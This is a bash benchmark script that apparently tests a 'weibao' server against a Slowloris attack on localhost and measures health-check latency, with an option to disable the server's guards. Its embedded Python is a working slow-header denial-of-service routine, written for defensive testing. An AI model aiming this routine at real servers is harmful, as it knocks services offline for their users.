#!/usr/bin/env bash
# Slowloris against `weibao serve` with its default settings: 1,100 connections
# from one address (127.0.0.2), each sent a partial request head and then one
# more header line every 20 s, reopened as the server closes them, for 60 s.
# Meanwhile GET /healthz from 127.0.0.1 every half second (curl, 2 s limit);
# prints the probes' latencies (median, p95, max) and failures, and what the
# attacker saw.
#   bench/bench_slowloris.sh path/to/weibao [seconds] [connections]
# UNGUARDED=1 lifts the per-address limit and the head deadline (to their
# maxima) to show the attack without them.
set -euo pipefail
bin=$(realpath "${1:?usage: bench_slowloris.sh path/to/weibao [seconds] [connections]}")
dur=${2:-60} count=${3:-1100}
tmp=$(mktemp -d /tmp/weibao-bench.XXXXXX)
server=
cleanup() { [ -n "$server" ] && kill "$server" 2>/dev/null; rm -rf "$tmp"; }
trap cleanup EXIT

WEIBAO_ADMIN_PASSWORD=Bench-Tongxiang-2022 "$bin" init --data "$tmp/d" >/dev/null
if [ "${UNGUARDED:-0}" = 1 ]; then
  printf 'address_connection_limit = 100000\nheader_timeout_seconds = 3600\n' > "$tmp/d/weibao.conf"
fi
port=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
"$bin" serve --data "$tmp/d" --listen "127.0.0.1:$port" > "$tmp/serve.out" 2>&1 &
server=$!
for _ in $(seq 100); do curl -fs "http://127.0.0.1:$port/healthz" >/dev/null 2>&1 && break; sleep 0.1; done

cat > "$tmp/attack.py" <<'EOF'
import resource, select, socket, sys, time
port, count, dur, interval = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), 20.0
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, count + 256)), hard))
t0 = time.monotonic()
conns, lives, samples, opened_total, failed = {}, [], [], 0, 0

def close(fd, now):
    s, opened, _ = conns.pop(fd)
    lives.append(now - opened)
    s.close()

next_refill, next_sample = t0, t0 + 0.5
while time.monotonic() - t0 < dur:
    now = time.monotonic()
    if now >= next_refill:
        while len(conns) < count:
            s = socket.socket()
            s.bind(("127.0.0.2", 0))
            s.settimeout(2)
            try:
                s.connect(("127.0.0.1", port))
                s.setblocking(False)
                s.send(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n")
            except OSError:
                s.close()
                failed += 1
                break
            opened_total += 1
            t = time.monotonic()
            conns[s.fileno()] = [s, t, t]
        next_refill += 1
        next_sample = time.monotonic() + 0.5
    if now >= next_sample:
        samples.append(len(conns))
        next_sample = float("inf")
    p = select.poll()
    for fd in conns:
        p.register(fd, select.POLLIN)
    for fd, ev in p.poll(100):
        try:
            if conns[fd][0].recv(4096):
                continue
        except BlockingIOError:
            continue
        except OSError:
            pass
        close(fd, time.monotonic())
    now = time.monotonic()
    for fd in list(conns):
        s, opened, last = conns[fd]
        if now - last >= interval:
            try:
                s.send(b"X-Trickle-%d: x\r\n" % int(now - t0))
                conns[fd][2] = now
            except BlockingIOError:
                pass
            except OSError:
                close(fd, now)
held = [l for l in lives if l >= 1]
print("attacker: %d connections opened (%d failed), open half a second after each refill: max %d, median %d"
      % (opened_total, failed, max(samples), sorted(samples)[len(samples) // 2]))
print("attacker: %d closed by the server after >= 1 s, lifetimes %.1f-%.1f s; %d refused at once"
      % (len(held), min(held) if held else 0, max(held) if held else 0, len(lives) - len(held)))
EOF

python3 "$tmp/attack.py" "$port" "$count" "$dur" > "$tmp/attack.out" &
attack=$!
sleep 1
: > "$tmp/probes"
end=$((SECONDS + dur - 2))
while [ "$SECONDS" -lt "$end" ]; do
  curl -s -o /dev/null --max-time 2 -w '%{http_code} %{time_total}\n' \
    "http://127.0.0.1:$port/healthz" >> "$tmp/probes" || echo "000 2.0" >> "$tmp/probes"
  sleep 0.5
done
wait "$attack"
kill -TERM "$server"
wait "$server" || true
server=

echo "slowloris: $count connections from 127.0.0.2, a header line every 20 s, ${dur} s" \
     "($([ "${UNGUARDED:-0}" = 1 ] && echo "unguarded" || echo "default settings"))"
cat "$tmp/attack.out"
python3 - "$tmp/probes" <<'EOF'
import sys
rows = [line.split() for line in open(sys.argv[1])]
ms = sorted(float(t) * 1000 for _, t in rows)
fail = sum(1 for code, _ in rows if code != "200")
print("healthz: %d probes, %d failed (not 200 within 2 s); latency median %.1f ms, p95 %.1f ms, max %.1f ms"
      % (len(ms), fail, ms[len(ms) // 2], ms[min(len(ms) - 1, int(len(ms) * 0.95))], ms[-1]))
EOF
echo "server log: $(grep -c . "$tmp/serve.out" || true) lines"; sort "$tmp/serve.out" | uniq -c | sort -rn | head -5
